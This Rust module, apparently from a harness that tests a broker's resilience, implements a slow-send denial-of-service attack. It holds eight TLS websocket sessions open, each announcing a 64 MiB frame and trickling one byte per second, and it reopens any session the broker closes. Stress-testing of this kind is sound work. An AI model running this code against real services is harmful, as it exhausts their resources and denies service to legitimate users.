//! The maximum number of sessions of one certificate, each of which announces a frame of the
//! largest size and sends almost nothing of it.
//!
//! Invariant: a session that the broker closed is opened again after [`PAUSE`], so that nearly
//! always all of them exist. Next to nothing is computed on either side.

use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use anyhow::Result;
use rustls::ClientConfig;
use tokio::io::AsyncWriteExt as _;

use super::progress::{ATTACKER, AttackProgress};
use crate::fairness::http_request;
use crate::https_connection::HttpsConnection;

/// Maximum number of sessions of one certname.
const SESSIONS: u64 = 8;

/// The largest message of the protocol.
const ANNOUNCED_BYTES: u64 = 64 << 20;

/// Number of bytes that are sent at once: more than a message may have without a reservation.
const SENT_BYTES: usize = 100_000;

/// The pause between the following single bytes, and before a lost session is opened again.
const PAUSE: Duration = Duration::from_secs(1);

/// First byte of a text frame that is a whole message.
const WHOLE_TEXT: u8 = 0x81;

/// Second byte of a masked frame whose length is in the next 8 bytes.
const MASKED_LONG: u8 = 0xff;

pub(super) async fn run(
    broker: SocketAddr,
    tls: Arc<ClientConfig>,
    progress: &AttackProgress,
) -> Result<()> {
    let sessions = (0..SESSIONS).map(|number| repeat(broker, Arc::clone(&tls), number, progress));
    futures_util::future::join_all(sessions).await;
    Ok(())
}

async fn repeat(
    broker: SocketAddr,
    tls: Arc<ClientConfig>,
    number: u64,
    progress: &AttackProgress,
) {
    loop {
        // The broker closes sessions that make no progress; they are opened again.
        let _ = announce(broker, Arc::clone(&tls), number, progress).await;
        tokio::time::sleep(PAUSE).await;
    }
}

/// Runs one session until the broker closes it.
async fn announce(
    broker: SocketAddr,
    tls: Arc<ClientConfig>,
    number: u64,
    progress: &AttackProgress,
) -> Result<()> {
    let connection = HttpsConnection::open(broker, ATTACKER, tls).await?;
    let headers = [
        ("Upgrade", "websocket"),
        ("Connection", "Upgrade"),
        ("Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ=="),
        ("Sec-WebSocket-Version", "13"),
    ];
    let upgrade = http_request("GET", &format!("/pcp2/t{number}"), &headers, "");
    let mut stream = connection.upgrade(upgrade.as_bytes()).await?;
    let mut frame = vec![WHOLE_TEXT, MASKED_LONG];
    frame.extend(ANNOUNCED_BYTES.to_be_bytes());
    frame.extend([0; 4]);
    frame.resize(frame.len() + SENT_BYTES, b'x');
    stream.write_all(&frame).await?;
    stream.flush().await?;
    if progress.acted() >= SESSIONS {
        progress.established();
    }
    loop {
        tokio::time::sleep(PAUSE).await;
        stream.write_all(b"x").await?;
        stream.flush().await?;
    }
}
